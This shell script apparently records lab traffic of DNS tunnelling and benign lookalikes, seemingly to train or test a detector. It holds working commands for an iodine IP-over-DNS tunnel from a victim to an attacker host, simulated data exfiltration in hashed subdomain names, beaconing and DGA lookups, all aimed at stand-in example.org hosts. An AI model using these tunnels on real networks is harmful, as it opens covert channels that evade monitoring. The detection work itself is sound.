#!/bin/sh
# Recordings of tunnels through DNS and of what looks like them: see script/lab. The victim is the client; the
# attacker answers.
# needs: iodine iodine

# A server that answers every query by a TXT of sixteen hexadecimal digits, or by what $1 says, for some seconds.
dns_answers() {
    attacker timeout "${2:-20}" python3 -c '
import socket, sys, hashlib
kind = sys.argv[1]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 53))
while True:
    q, who = s.recvfrom(4096)
    end = q.index(b"\0", 12) + 5
    head = q[:2] + (b"\x81\x83" if kind == "none" else b"\x81\x80") + b"\0\1" + (b"\0\0" if kind == "none" else b"\0\1") + b"\0\0\0\0"
    text = hashlib.sha256(q[12:end]).hexdigest()[:16].encode()
    data = {"txt": b"\0\x10\0\1\0\0\0\0\0\x11\x10" + text, "a": b"\0\1\0\1\0\0\0\0\0\4\xc6\x33\x64\7",
            "listed": b"\0\1\0\1\0\0\0\0\0\4\x7f\0\0\2", "none": None}[kind]
    s.sendto(head + q[12:end] + (b"\xc0\x0c" + data if data else b""), who)
' "$1" &
    sleep 1
}

# Names on the standard input are asked for, one after the other, of type $1.
ask_all() {
    victim dig "@$ATTACKER" +tries=1 +time=1 +noedns -t "$1" -f -
}

# dns_tunnelling-iodine: attack dns_tunnelling a tunnel by iodine, NULL records, with a ping through it
record_dns_tunnelling_iodine() {
    attacker timeout 15 iodined -f -c -P secret 10.99.0.1 t.example.org &
    sleep 1
    victim timeout 12 iodine -f -r -P secret -T NULL "$ATTACKER" t.example.org &
    sleep 5
    victim ping -q -c 5 10.99.0.1 || true
    wait
}

# dns_tunnelling-iodine-txt: attack dns_tunnelling the same by TXT records and short names
record_dns_tunnelling_iodine_txt() {
    attacker timeout 15 iodined -f -c -P secret 10.99.0.1 t.example.org &
    sleep 1
    victim timeout 12 iodine -f -r -P secret -T TXT -M 100 "$ATTACKER" t.example.org &
    sleep 5
    victim ping -q -c 5 10.99.0.1 || true
    wait
}

# dns_tunnelling-iodine-raw: attack dns_tunnelling iodine over port 53 without DNS
record_dns_tunnelling_iodine_raw() {
    attacker timeout 15 iodined -f -c -P secret 10.99.0.1 t.example.org &
    sleep 1
    victim timeout 12 iodine -f -P secret "$ATTACKER" t.example.org &
    sleep 5
    victim ping -q -i 0.2 -c 25 10.99.0.1 || true
    wait
}

# dns_tunnelling-waiting: attack dns_tunnelling a client that waits for commands, by short names and TXT
record_dns_tunnelling_waiting() {
    dns_answers txt
    python3 -c 'import hashlib
for n in range(60): print(hashlib.md5(b"%d" % n).hexdigest()[:18] + ".example.org")' | ask_all TXT
    wait
}

# dns_tunnelling-names: attack dns_tunnelling a file carried out in names of 40 characters, asked for as addresses
record_dns_tunnelling_names() {
    dns_answers a
    python3 -c 'import hashlib
for n in range(300): print(hashlib.md5(b"%d" % n).hexdigest()[:28] + ".example.org")' | ask_all A
    wait
}

# dns_tunnelling-dga: attack dns_tunnelling look-ups of computed domains that do not exist
record_dns_tunnelling_dga() {
    dns_answers none
    python3 -c 'import random
r = random.Random(7)
for n in range(30): print("".join(r.choice("bcdfghjklmnpqrstvwxz") for _ in range(12)) + r.choice([".com", ".net", ".org"]))' |
        ask_all A
    wait
}

# dns_tunnelling-directory: benign dns_tunnelling log-on to a directory, addresses looked up in reverse, long hosts
record_dns_tunnelling_directory() {
    dns_answers none
    for name in _ldap._tcp.Default-First-Site-Name._sites.dc._msdcs.corp.example.org \
        _kerberos._tcp.Default-First-Site-Name._sites.dc._msdcs.corp.example.org; do
        for _ in 1 2 3 4 5 6 7 8; do echo "$name"; done
    done | ask_all SRV
    victim dig "@$ATTACKER" +tries=1 +time=1 -x 2001:db8::1 || true
    for _ in 1 2 3 4 5 6; do
        echo internal-web-front-end.frankfurt.load-balancer.cloud.example.org
    done | ask_all A
    wait
}

# dns_tunnelling-lists: benign dns_tunnelling a mail server that asks a list of addresses
record_dns_tunnelling_lists() {
    dns_answers listed
    python3 -c 'import random
r = random.Random(7)
for n in range(600): print("%d.%d.%d.%d.list.example.org" % tuple(r.randrange(256) for _ in range(4)))' | ask_all A
    wait
}

# dns_tunnelling-search: benign dns_tunnelling public names with the site's domain behind them
record_dns_tunnelling_search() {
    dns_answers none
    python3 -c '
for n in range(300): print("server-%d.wikipedia.org.corp.example.org" % n)' | ask_all A
    wait
}
